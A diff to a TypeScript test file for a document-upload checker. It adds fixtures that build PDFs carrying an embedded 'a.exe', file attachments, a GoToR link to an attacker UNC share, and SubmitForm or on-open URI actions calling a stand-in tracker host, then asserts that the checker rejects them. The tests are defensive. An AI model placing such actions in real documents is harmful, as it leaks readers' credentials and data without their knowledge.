@@ -2,7 +2,7 @@ import assert from 'node:assert/strict';
 import { createServer, type Server } from 'node:net';
 import { after, before, describe, it } from 'node:test';
 import { deflateSync } from 'node:zlib';
-import { PDFDocument, PDFName, PDFString } from 'pdf-lib';
+import { type PDFDict, PDFDocument, PDFName, PDFString } from 'pdf-lib';
 import { cleanPhoto } from '../reports/index.js';
 import { AppError } from '../../platform/errors.js';
 import { checkDocument, clamdScanner, contentDisposition, displayName } from './uploads.js';
@@ -82,6 +82,68 @@ async function activePdf(kind: 'open-js' | 'names-js' | 'page-aa' | 'launch'): P
   return doc.save({ useObjectStreams: true });
 }
 
+type CarriedKind =
+  | 'embedded-files'
+  | 'file-attachment'
+  | 'link-gotor'
+  | 'link-gotoe'
+  | 'submit-form'
+  | 'import-data'
+  | 'rich-media'
+  | 'open-uri'
+  | 'open-uri-next'
+  | 'link-uri';
+
+/**
+ * A PDF carrying a file, or an action that opens another file or a web address or sends data out;
+ * compressed (object streams) unless `classic`, so that the parsed scan or the raw one finds it.
+ */
+async function carryingPdf(kind: CarriedKind, classic = false): Promise<Uint8Array> {
+  const doc = await PDFDocument.create();
+  const page = doc.addPage([100, 100]);
+  const ctx = doc.context;
+  const link = (action: PDFDict) =>
+    page.node.set(
+      PDFName.of('Annots'),
+      ctx.obj([ctx.register(ctx.obj({ Type: 'Annot', Subtype: 'Link', Rect: [0, 0, 50, 50], A: action }))]),
+    );
+  const spec = () =>
+    ctx.obj({
+      Type: 'Filespec',
+      F: PDFString.of('a.exe'),
+      EF: ctx.obj({ F: ctx.register(ctx.stream('MZ payload', { Type: 'EmbeddedFile' })) }),
+    });
+  const url = PDFString.of('https://tracker.example/opened');
+  if (kind === 'embedded-files') {
+    const tree = ctx.obj({ Names: [PDFString.of('a.exe'), ctx.register(spec())] });
+    doc.catalog.set(PDFName.of('Names'), ctx.obj({ EmbeddedFiles: ctx.register(tree) }));
+  }
+  if (kind === 'file-attachment') {
+    page.node.set(
+      PDFName.of('Annots'),
+      ctx.obj([ctx.register(ctx.obj({ Type: 'Annot', Subtype: 'FileAttachment', Rect: [0, 0, 9, 9], FS: spec() }))]),
+    );
+  }
+  if (kind === 'link-gotor')
+    link(ctx.obj({ S: 'GoToR', F: PDFString.of('\\\\attacker\\share\\x.pdf'), D: [0, 'Fit'] }));
+  if (kind === 'link-gotoe') link(ctx.obj({ S: 'GoToE', T: ctx.obj({ R: 'C', N: PDFString.of('a.pdf') }) }));
+  if (kind === 'submit-form') link(ctx.obj({ S: 'SubmitForm', F: url }));
+  if (kind === 'import-data') link(ctx.obj({ S: 'ImportData', F: PDFString.of('data.fdf') }));
+  if (kind === 'rich-media') {
+    page.node.set(
+      PDFName.of('Annots'),
+      ctx.obj([ctx.register(ctx.obj({ Type: 'Annot', Subtype: 'RichMedia', Rect: [0, 0, 9, 9] }))]),
+    );
+  }
+  if (kind === 'open-uri') doc.catalog.set(PDFName.of('OpenAction'), ctx.obj({ S: 'URI', URI: url }));
+  if (kind === 'open-uri-next') {
+    const next = ctx.register(ctx.obj({ S: 'URI', URI: url }));
+    doc.catalog.set(PDFName.of('OpenAction'), ctx.obj({ S: 'GoTo', D: [page.ref, 'Fit'], Next: next }));
+  }
+  if (kind === 'link-uri') link(ctx.obj({ S: 'URI', URI: PDFString.of('https://dichvucong.gov.vn') }));
+  return doc.save({ useObjectStreams: !classic });
+}
+
 const CRC_TABLE = Array.from({ length: 256 }, (_, n) => {
   let c = n;
   for (let k = 0; k < 8; k++) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1;
@@ -144,6 +206,36 @@ describe('what an upload may carry', () => {
       });
     }
     assert.equal((await checkDocument(await pdf(), 'don.pdf')).contentType, 'application/pdf');
+  });
+
+  it('refuses a PDF carrying files, or actions that open other files, send data or open a web address on opening', async () => {
+    const refused: CarriedKind[] = [
+      'embedded-files',
+      'file-attachment',
+      'link-gotor',
+      'link-gotoe',
+      'submit-form',
+      'import-data',
+      'rich-media',
+      'open-uri',
+      'open-uri-next',
+    ];
+    for (const kind of refused) {
+      for (const classic of [false, true]) {
+        await assert.rejects(checkDocument(await carryingPdf(kind, classic), 'don.pdf'), (e: unknown) => {
+          assert.ok(e instanceof AppError && e.code === 'SERVICES_DOCUMENT_INVALID', `${kind} ${classic}`);
+          assert.match(e.message, /Embedded|EF|FileAttachment|GoTo|SubmitForm|ImportData|RichMedia|URI/, kind);
+          return true;
+        });
+      }
+    }
+    // A clickable web link, as in a scanned letter, is taken: only a reader's click follows it.
+    for (const classic of [false, true]) {
+      assert.equal(
+        (await checkDocument(await carryingPdf('link-uri', classic), 'thu.pdf')).contentType,
+        'application/pdf',
+      );
+    }
   });
 
   it('refuses an image declaring more than 40 megapixels (PNG, JPEG, WebP)', async () => {
